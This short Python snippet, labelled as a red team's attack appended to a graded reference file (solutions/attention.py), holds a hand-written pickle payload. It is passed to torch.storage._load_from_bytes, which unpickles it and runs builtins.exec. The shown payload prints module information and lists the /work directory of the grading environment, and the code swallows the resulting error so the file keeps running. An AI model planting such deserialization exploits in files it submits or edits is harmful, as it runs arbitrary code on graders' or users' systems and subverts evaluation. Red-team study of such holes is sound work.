"""A red team's attack, appended to the reference (solutions/attention.py) when it was graded."""

# --- attack: torch.storage._load_from_bytes(b) is torch.load(io.BytesIO(b), weights_only=False);
# the legacy format unpickles a "magic number" first, so a hand-written pickle runs builtins.exec.
_payload = b'\x80\x02c__builtin__\nexec\nq\x00Xr\x00\x00\x00import sys, os; print("PICKLE exec reached:", sys.modules["os"], "| /work:", os.listdir("/work"), file=sys.stderr)q\x01\x85q\x02Rq\x03.'
try:
    torch.storage._load_from_bytes(_payload)
except RuntimeError:
    pass   # "Invalid magic number": the payload has already run
